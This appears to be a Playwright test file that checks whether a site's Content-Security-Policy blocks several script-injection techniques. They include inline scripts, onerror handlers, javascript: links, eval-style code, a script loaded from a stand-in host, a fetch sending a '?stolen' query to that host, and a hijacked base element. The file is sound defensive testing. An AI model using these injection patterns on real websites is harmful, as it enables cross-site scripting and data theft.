/**
 * The Content-Security-Policy of a page blocks what it is for. `tests/built/policy.test.ts` reads the policies of all pages, and
 * a violation in any other test fails that test, because the browser reports it in the console.
 */
import type {Page} from '@playwright/test';

import {atRest, expect, test, visit} from '../support/test';

const formulas = '/docs/tutorial/about_gem5/WhyGem5';

/** @returns the directives that an action of the page violates, as the browser reports them */
async function violations(page: Page, act: () => void | Promise<void>): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, {violations: seen});
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
      seen.push(effectiveDirective);
    });
  });
  await page.evaluate(act);
  await atRest(page);
  return page.evaluate(() => (window as unknown as {violations: string[]}).violations);
}

const injections: readonly {
  readonly name: string;
  readonly directive: string;
  readonly act: () => void | Promise<void>;
}[] = [
  {
    name: 'a script in an element',
    directive: 'script-src-elem',
    act: () => {
      const script = document.createElement('script');
      script.textContent = 'window.harmed = true';
      document.body.append(script);
    },
  },
  {
    name: 'a handler in an attribute',
    directive: 'script-src-attr',
    act: () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.harmed = true">';
      document.body.append(holder);
    },
  },
  {
    name: 'a script in an address',
    directive: 'script-src-elem',
    act: () => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:window.harmed = true');
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'evaluated text',
    directive: 'script-src',
    act: () =>
      // The policy does not apply to code that a test evaluates, but to a timer of the page.
      new Promise((done) => {
        setTimeout(() => {
          done();
          // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the policy must block it
          new Function('window.harmed = true')();
        });
      }),
  },
  {
    name: 'a script of another origin',
    directive: 'script-src-elem',
    act: () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/harm.js';
      document.body.append(script);
    },
  },
  {
    name: 'a request to another origin',
    directive: 'connect-src',
    act: () =>
      fetch('https://elsewhere.example/?stolen').then(
        () => undefined,
        () => undefined,
      ),
  },
  {
    name: 'another base of addresses',
    directive: 'base-uri',
    act: () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
    },
  },
];

for (const {name, directive, act} of injections) {
  test(`the policy blocks ${name}`, async ({page, at, trouble}) => {
    trouble.allow(/Content Security Policy/, /failed: csp/, /from a foreign host/);
    await visit(page, at(formulas));
    expect(await violations(page, act)).toEqual([directive]);
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
  });
}
